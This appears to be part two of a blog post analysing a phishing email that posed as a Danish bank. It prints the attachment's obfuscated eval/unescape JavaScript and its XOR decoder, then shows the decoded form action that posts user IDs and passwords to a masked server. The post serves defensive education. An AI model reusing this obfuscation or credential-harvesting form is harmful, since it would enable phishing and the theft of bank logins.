I want to “phish” Phishing-target bank customers Part.2

Moving on to part 2 of the analysis of the actual phishing e-mail, let’s see what the form can tell us…

So the form exists in an html file. The next step is to analyze this file. I ‘ll open it with a text editor (Notepad ++), as I do not know yet if the file contains any malicious code, and see if there is something potentially malicious in the code contained in the html file.

There is an odd-looking JavaScript and an image, that is hosted in a domain, which at first sight does not belong to the Phishing-target  bank group website (www.hackedsite1.dk).

First, I ‘ll try to view the image in a sandboxed browser.
The image no longer exists….

Image no longer there

Secondly, I’ ll examine the odd-looking JavaScript.

Odd-looking JavaScript? Is that a description which covers the JavaScript included it the code of the attached html file? No, it is not. This JavaScript contains obfuscated code.Obfuscation, in general, describes a practice that is used to intentionally make something more difficult to understand. In a programming context, it means to make code harder to understand or read, generally for privacy or security purposes. A tool called an obfuscator is sometimes used to convert a straight-forward program into one that works the same way but is much harder to understand.”


The person that sent this e-mail is certainly trying to make the code included in the html file harder to understand. But why? What does the code actually do? How can we find out?

The three questions stated before will be answered as soon as I de-obfuscate the JavaScript code to see what it actually does. However, before I do that it is worth seeing what JavaScript functions the sender is using to obfuscate the JavaScript code.  On first sight the JavaScript is divided in two parts which use the eval() and unescape() functions as well as the “+” operator.

Check here for more

<script type=”text/javascript”>eval(unescape(‘%64%6f%63%75%6d%65%6e%74%2e%77%72%69%74%65%28%73%61%64%35%63%36%35%30%36%28%27’) + ‘%30%68%6b%6b%60%12%5c%5b%66%6a%6d%6d%3e%1a%6a%6c%69%6d%3c%2e%2f%23%3a%29%2d%27%2b%20%31%2d%2f%23%29%2b%3c%3b%2f%2c%61%75%6f%2b%64%6f%56%58%74%20%63%66%6f%15%1c%6f%5d%69%65%61%59%31%14%63%6d%68%67%1a%12%6b%6f%4a%67%5b%61%6b%67%33%19%65%59%66%6d%6b%6f%12%77%5d%6e%6a%5a%5e%67%59%2a%6c%65%64%65%24%1a%3025303079%36%38%32%37%37%38%37’ + unescape(‘%27%29%29%3b’));

// –>

Odd-looking JavaScript

The unescape() function returns the ASCII string for the specified hexadecimal encoded value. It is a function deprecated above JavaScript 1.5 as it does not work properly for non-ASCII characters. (http://www.w3schools.com/jsref/jsref_unescape.asphttps://developer.mozilla.org/en-US/docs/Web/JavaScript/Guide/Functions). For example string “%66%75%6e%63%74%69%6f%6e” translates to “function” (see also ASCII table available on http://www.asciitable.com/).

Displaying JavaScript unescape() function

The eval() function evaluates a string ofJavaScript code and executes any statements contained in the code.  (https://developer.mozilla.org/en-US/docs/Web/JavaScript/Guide/Functions#eval_Functionhttp://www.w3schools.com/jsref/jsref_eval.asp). So the snippet of code contained in the table below will produce an html page containing the text “Function evaluated correctly. Execution results to: 3”.

Demo JavaScript eval() function

<!DOCTYPE html>




var x = 30;

var y = 10;

var a = eval(“x / y”);

document.write (“Functionevaluated correctly. Execution results to: ” + a);




E-mail header analysis

The result of the code snippet is shown in the following image .

Displaying JavaScript unescape() function

The “+” operator, as shown in the JavaScript code contained in the attached file, is used as a string concatenation operator, namely to concatenate different snippets of JavaScript code. In the code snippet in table above the ” document.write (“Function evaluated correctly. Execution results to: ” + a);” adds the 2 strings contained in the parentheses, namely “Function evaluated correctly. Execution results to: ” and the value of variable a, resulting in ” Function evaluated correctly. Execution results to: 3″.

The “+” operator of course is also the JavaScript arithmetic operator, namely it is also used to add numbers.

Finally, using the eval() function in combination with the unescape() function (“eval(unescape)“) means that the sender of the e-mail actually wants to decode his obscure (obfuscated) code and then execute it.

Now, having explained the obvious parts of the JavaScript code contained in the attached html file, let’s try to decode it. In order to do that I will use the JSDetox JavaScript malware analysis tool (http://www.relentless-coding.com/projects/jsdetox/). JSDetox is a tool used to support the manual analysis of malicious JavaScript code. It runs on its’ own web server on port 3000 (http://localhost:3000).

So I load the html attached file into JSDetox engine.

Loading attached html file into JSDetox engineI have enabled the “execute eval” option, so that the eval() functions contained in the file’s JavaScript engine are executed. I click on the “Extract scripts” button in order to extract the scripts included in the html file.

Extracting scripts contained within the attached html file

I click the “Execute” button and I see that 3 actions are performed.

Actions executed by the scripts contained within the attached html file

As shown in the picture above the htmlfile contains one script. The script performs 3 actions; it executes the 2 eval() functions, in order to finally emulate a call to the document.write method, namely to write to the html file,where the JavaScript code is contained (http://www.w3schools.com/jsref/met_doc_write.asp).

I will click the “Show Code” button for each of the performed actions so that I can see the steps the JavaScript code goes through.

Execution of the eval() function nr. 1

Eval() function nr. 1 creates a function called sad5c6506() that takes one argument (variable s).

Code created by eval() function nr. 1

Function sad5c6506(s) {

               var r = “”;

               var tmp = s.split(“25303079”);

               s = unescape(tmp[0]);

               k = unescape(tmp[1] + “689459”);

               for( var i = 0; i<s.length; i++) {

               r += String.fromCharCode((parseInt(k.charAt(i%k.length))^s.charCodeAt(i))+6);


               return r;


Execution of eval() function nr. 2

Eval function nr. 2 calls the document.write method in order to write on the html file. Document.write writes on the html file the result of a call to the function, which eval() function nr. 1 created, namely function  sad5c6506(s). The function in question takes as an argument an encoded string.

Code created by eval() function nr. 2


Call to the document write.method

The sad5c6506(s) function decodes the encoded string to a form action that will be called by the form contained in the html file code. The action called is a post action, which is used to request that the origin server accepts the entity enclosed in the request as a new subordinate of the resource identified by the Request-URI in the Request-Line ((http://www.w3.org/Protocols/rfc2616/rfc2616-sec9.html#sec9.5). In short, the user’s input (user submitted data) is sent to a file specified in the code, usually residing in the same server as the form, which processes it.Result of sad5c6506(s) execution

<form action=”http://xxx.xx.xx.143:81/nym/index.php” method=”post” onSubmit=”return validate(this)”>

So the html code of the attached html file is the following.

Html file containing the result of the JavaScript code

The html file that was attached to the received e-mail is a phishing form.

Attached html file

The phishing form pertains to be from Phishing-target Bank and asks for:

  • Bruger-id -> User ID
  • Adgangskode -> Password
  • Adgangskode2 -> Password2
  • E-mail

All the above asked items are mandatory. The values that the user enters are sent to “http://xxx.xx.xx.143:81/nym/index.php“, so they are processed by “index.php” hosted in a directory called nym. The web server is located in xxx.xx.xx.143 and listens on port 81 (not a normal web server port). Hmmm, now there is one more IP address to look at.

Let’s see. I call once again my favorite WHOis service (http://whois.domaintools.com) and I see that xxx.xx.xx.143 is located in Warsaw, Poland.

IP Information for xxx.xx.xx.143

IP Information for xxx.xx.xx.143IP Location
Poland Warsaw xxxxxxxxxxxxxx
AS43xxx xxxxx-AS xxxxxxxxxx ,PL (registered Sep 11, 2007)
Whois Server
IP Address

inetnum:        xxx.xx.xx.0 – xxx.xx.xx.255
netname:        xxxxxxxxxxxxx
descr:          xxxxxxxxxxxxxx
descr:          Axxxx.  xxx
descr:          00-xxx Warszawa
country:        PL
org:            ORG-DPJA1-RIPE
admin-c:        JJ16xx-RIPE
admin-c:        JA9xx-RIPE
tech-c:         DS14xxx-RIPE
tech-c:         JJ1xxx-RIPE
status:         ASSIGNED PI
mnt-by:         DCENTER-MNT
mnt-by:         RIPE-NCC-END-MNT
mnt-lower:      RIPE-NCC-END-MNT
mnt-routes:     DCENTER-MNT
mnt-domains:    DCENTER-MNT
source:         RIPE # Filtered

organisation:   ORG-DPJA1-RIPE
org-name:       xxxxxxxxxxxxxxxxxxxxxxx
org-type:       OTHER
address:        Axxxx xxx
address:        WARSZAWA
address:        Poland
phone:          +48 22 xxx xx xx
admin-c:        JA937-RIPEtech-c:         JA9xx-RIPE
mnt-ref:        NETIA-MNT
mnt-by:         NETIA-MNT
source:         RIPE # Filtered

person:         Contact Person 3
address:        xxxxxxxxxxxx
address:        Warsaw, Poland
phone:          +48 602 xxxxxx
nic-hdl:        DS14145-RIPE
mnt-by:         WN-MNT
source:         RIPE # Filtered

person:         Contact Person 4
address:        xxxxxxxxxxxxx
address:        xxxxx xxx
address:        WARSZAWA
address:        POLAND
phone:          +48 (22) xxx xx xx
nic-hdl:        JA9xx-RIPE
mnt-by:         NETIA-MNT
source:         RIPE # Filtered

person:         Contact Person 5
address:        xxxxxxxxxxxxx
address:        Warsaw, Poland
phone:          +48 695 1xxxxx
nic-hdl:        JJ16xx-RIPE
mnt-by:         LPPL-MNT
source:         RIPE # Filtered

route:          xxx.xx.xx.0/24
descr:          xxxxxxxxxxxx
origin:         AS43xxx
mnt-by:         DCENTER-MNT
source:         RIPE # Filtered

WHOis information for xxx.xx.xx.143

Finally, is ” http://xxx.xx.xx.143:81/nym/index.php” still alive? As shown below, it is not.

Is http://xxx.xx.xx.143:81/nym/index.php still alive?

Concluding, we have an e-mail seemingly from a Danish bank, sent from Russia, whichcontains a form that sends the filled data to a server in Poland. Does not sound legit? Does it? Certainly not!

So…lessons learned (simple users):

  • Banks do not inform us that our card will be suspended by e-mail.
  • Banks do not ask us about our credentials, etc by e-mail.
  • Phishing is easy to do and easy to identify.
  • Always talk to your bank (certainly not on a phone included in an e-mail) and stay vigilant.

And lessons learned (more advanced users)…

  • E-mail headers contain a lot of info. Know what to look for.
  • WHOis is our friend. It tells us a lot.
  • Phishers / malware writers love obfuscation.
  • Obfuscation is usually a sign of illicit activity.This article is written for scientific purposes. It aims to:• educate simple users on how to identify phishing e-mails andwhat they should be careful of in order not to get phished and
  • educate more advanced users in phishers' techniques and howthese can be analyzed.

More Posts & Articles